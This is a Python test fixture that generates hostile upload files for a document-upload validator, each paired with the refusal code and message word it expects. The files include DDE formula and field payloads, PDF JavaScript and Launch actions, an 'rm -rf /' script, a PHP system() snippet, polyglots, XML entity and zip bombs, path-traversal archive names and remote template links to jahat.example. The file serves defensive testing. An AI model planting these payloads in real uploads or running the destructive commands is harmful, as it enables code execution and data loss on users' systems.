"""Hostile files, made on the spot: the name each comes under, its bytes, and how it must be refused."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from typing import Any

import pikepdf

from tests.files.make import open_document, packed, pdf, picture, relations, sheet, slides, unpacked, word

HTML = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
EXE = b"MZ\x90\x00\x03" + bytes(200)


@dataclass(frozen=True)
class Hostile:
    """One hostile file and its refusal: the code, and a word that its text must hold."""

    name: str
    data: bytes
    code: str
    said: str


def acting(**entries: Any) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for key, value in entries.items():
            document.Root[f"/{key}"] = document.make_indirect(value)
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def carrying() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["virus.exe"] = EXE
        document.save(out)
    return out.getvalue()


def huge_png(side: int) -> bytes:
    def part(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(b"")) + part(b"IEND", b"")


def twice(name: str) -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name.upper(), b"x")
    return out.getvalue()


def link() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        member = zipfile.ZipInfo("word/media/foto.png")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, "/etc/passwd")
    return out.getvalue()


def locked_member() -> bytes:
    data = bytearray(word())
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def squeezed(method: int) -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a", method) as archive:
        archive.writestr("word/media/a.bin", bytes(50_000_000))
    return out.getvalue()


def lying(size: int) -> bytes:
    """Return a document one part of which unpacks to more than its head says."""
    data = bytearray(packed(unpacked(word()) | {"word/media/a.bin": bytes(size)}))
    name = data.rindex(b"word/media/a.bin")
    data[name - 22 : name - 18] = struct.pack("<I", 10)
    return bytes(data)


EMBED = "word/embeddings/"
BOMB = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
DDE = b"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
FIELD = b"<w:document xmlns:w='w'><w:instrText xml:space='preserve'> DDEAUTO cmd </w:instrText></w:document>"
REMOTE = relations("attachedTemplate", "https://jahat.example/t.dotm")
SHARED = relations("oleObject", "file:///\\\\jahat.example\\berbagi\\a.doc")
DEEP = packed(unpacked(sheet()) | {"xl/embeddings/a.xlsx": sheet()})
SCRIPTS = b"<o:document-content xmlns:o='o' xmlns:s='s'><s:event-listener/></o:document-content>"
LOCKED = b"<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"

CORPUS = (
    Hostile("kosong.pdf", b"", "upload-empty", "kosong"),
    Hostile("halaman.html", HTML, "upload-web-page", "<html"),
    Hostile("laporan.pdf", HTML, "upload-web-page", "PDF"),
    Hostile("catatan.txt", b"Rapat\n" * 90000 + b"<ScRipt src=x>", "upload-web-page", "<ScRipt"),
    Hostile(
        "gambar.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>", "upload-web-page", "<svg"
    ),
    Hostile("gambar.png", b"\xef\xbb\xbf<?xml version='1.0'?><svg/>", "upload-web-page", "<?xml"),
    Hostile("data.csv", b"Nama;Nilai\n=cmd|'/C calc'!A0;1\n", "upload-active", "DDE"),
    Hostile("jalan.txt", b"#!/bin/sh\nrm -rf /\n", "upload-program", "#!"),
    Hostile("skrip.bat", b"@echo off\r\ndel *.*\r\n", "upload-text-name", ".txt"),
    Hostile("acak.pdf", bytes(range(256)) * 20, "upload-unknown", "PDF"),
    Hostile("latin.csv", "Café;1\n".encode("cp1252"), "upload-not-utf8", "UTF-8"),
    Hostile("lebar.csv", "Nama;1\n".encode("utf-16"), "upload-not-utf8", "UTF-8"),
    Hostile("surat.pdf", EXE, "upload-program", "EXE"),
    Hostile("surat.jpg", b"\x7fELF\x02" + bytes(90), "upload-program", "ELF"),
    Hostile("pintasan.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(90), "upload-program", "LNK"),
    Hostile("Kelas.pdf", b"\xca\xfe\xba\xbe\0\0\0\x3d" + bytes(90), "upload-program", "Java"),
    Hostile("app.docx", packed({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "upload-program", "JAR"),
    Hostile("banyak.zip", packed({"a.pdf": pdf()}), "upload-archive", "ZIP"),
    Hostile("banyak.rar", b"Rar!\x1a\x07\x01\x00" + bytes(90), "upload-archive", "RAR"),
    Hostile("banyak.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(90), "upload-archive", "7Z"),
    Hostile("lama.doc", OLE, "upload-old-office", "DOC"),
    Hostile("kunci.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "upload-password", "sandi"),
    Hostile("surat.rtf", b"{\\rtf1 {\\object}}", "upload-old-office", "RTF"),
    Hostile("gerak.gif", b"GIF89a" + bytes(40), "upload-other-picture", "GIF"),
    Hostile("pindai.tif", b"II*\0" + bytes(40), "upload-other-picture", "TIFF"),
    Hostile("IMG_1.HEIC", b"\0\0\0\x18ftypheic" + bytes(90), "upload-heic", "iPhone"),
    Hostile("rapat.mp4", b"\0\0\0\x18ftypisom" + bytes(90), "upload-media", "tautan"),
    Hostile("sandi.pdf", pdf(password="rahasia", owner="lain"), "upload-password", "sandi"),
    Hostile("sandi-saja.pdf", pdf(password="rahasia"), "upload-password", "sandi"),
    Hostile("ganda.pdf", pdf() + HTML, "upload-two-in-one", "HTML"),
    Hostile("depan.pdf", b"%PDF-1.7\n%" + HTML + pdf(), "upload-two-in-one", "HTML"),
    Hostile("ganda2.pdf", pdf() + packed({"a.class": b"x"}), "upload-two-in-one", "ZIP"),
    Hostile(
        "gifar.jpg", picture("JPEG") + packed({"META-INF/MANIFEST.MF": b"x"}), "upload-two-in-one", "ZIP"
    ),
    Hostile("rahasia.png", picture("PNG") + b"Rar!\x1a\x07\x00" + bytes(50), "upload-two-in-one", "RAR"),
    Hostile("komentar.webp", picture("WEBP") + b"<?php system($x); ?>", "upload-two-in-one", "PHP"),
    Hostile(
        "js.pdf", acting(OpenAction=action("JavaScript", JS="app.alert(1)")), "upload-active", "JavaScript"
    ),
    Hostile("luncur.pdf", acting(OpenAction=action("Launch", F="cmd.exe")), "upload-active", "Launch"),
    Hostile("lampir.pdf", carrying(), "upload-active", "lampiran"),
    Hostile("xfa.pdf", acting(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array())), "upload-active", "XFA"),
    Hostile("potong.pdf", b"%PDF-1.7\n1 0 obj\n<<", "upload-broken", "rusak"),
    Hostile("potong.jpg", picture("JPEG", (600, 400))[:-900], "upload-broken", "rusak"),
    Hostile("rusak.png", b"\x89PNG\r\n\x1a\n" + bytes(60), "upload-broken", "rusak"),
    Hostile("bom.png", huge_png(50_000), "upload-too-many-pixels", "50000"),
    Hostile("makro.docx", word(**{"word/vbaProject.bin": OLE}), "upload-macro", "vbaProject"),
    Hostile("makro.xlsx", sheet(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "upload-macro", "macrosheets"),
    Hostile(
        "biner.xlsx",
        packed({"[Content_Types].xml": b"<x/>", "xl/workbook.bin": b"x"}),
        "upload-macro",
        "XLSB",
    ),
    Hostile("makro.odt", open_document("text", **{"Basic/Standard/a.xml": b"<x/>"}), "upload-macro", "Basic"),
    Hostile("pemicu.odt", open_document("text", **{"content.xml": SCRIPTS}), "upload-macro", "XML"),
    Hostile(
        "kunci.ods", open_document("text", **{"META-INF/manifest.xml": LOCKED}), "upload-password", "sandi"
    ),
    Hostile("ole.docx", word(**{f"{EMBED}oleObject1.bin": OLE}), "upload-active", "OLE"),
    Hostile("exe.pptx", slides(**{"ppt/media/a.png": EXE}), "upload-program", "EXE"),
    Hostile("x.docx", word(**{"word/activeX/activeX1.xml": b"<x/>"}), "upload-active", "ActiveX"),
    Hostile("dde.xlsx", sheet(**{"xl/externalLinks/externalLink1.xml": DDE}), "upload-active", "DDE"),
    Hostile("dde.docx", word(**{"word/document.xml": FIELD}), "upload-active", "DDE"),
    Hostile(
        "jauh.docx", word(**{"word/_rels/settings.xml.rels": REMOTE}), "upload-active", "attachedTemplate"
    ),
    Hostile("bagi.docx", word(**{"word/_rels/document.xml.rels": SHARED}), "upload-active", "oleObject"),
    Hostile("tawa.docx", word(**{"word/document.xml": BOMB}), "upload-unsafe", "ENTITY"),
    Hostile("bom.docx", word(**{"word/media/a.bin": bytes(310_000_000)}), "upload-unsafe", "300 MB"),
    Hostile("dusta.docx", lying(1_000_000), "upload-broken", "rusak"),
    Hostile("bzip2.docx", squeezed(zipfile.ZIP_BZIP2), "upload-unsafe", "pemampatan"),
    Hostile("lzma.docx", squeezed(zipfile.ZIP_LZMA), "upload-unsafe", "pemampatan"),
    Hostile("arsip.docx", word(**{f"{EMBED}a.bin": packed({"a": b"x"})}), "upload-unsafe", "a.bin"),
    Hostile("dalam.docx", word(**{f"{EMBED}a.xlsx": DEEP}), "upload-unsafe", "xl/embeddings/a.xlsx"),
    Hostile("bagian.docx", word(**{f"x/{n}": b"" for n in range(2100)}), "upload-unsafe", "bagian"),
    Hostile("naik.docx", word(**{"../../etc/cron.d/x": b"x"}), "upload-unsafe", "../../etc"),
    Hostile("mutlak.docx", word(**{"/etc/x": b"x"}), "upload-unsafe", "/etc/x"),
    Hostile("windows.docx", word(**{"C:x": b"x"}), "upload-unsafe", "C:x"),
    Hostile("kembar.docx", twice("word/document.xml"), "upload-unsafe", "WORD/DOCUMENT.XML"),
    Hostile("tautan.docx", link(), "upload-unsafe", "foto.png"),
    Hostile("sandi.xlsx", locked_member(), "upload-password", "sandi"),
    Hostile("ekor.docx", word() + HTML, "upload-unsafe", "di belakang"),
    Hostile("rusak.docx", word()[:-30], "upload-broken", "rusak"),
)
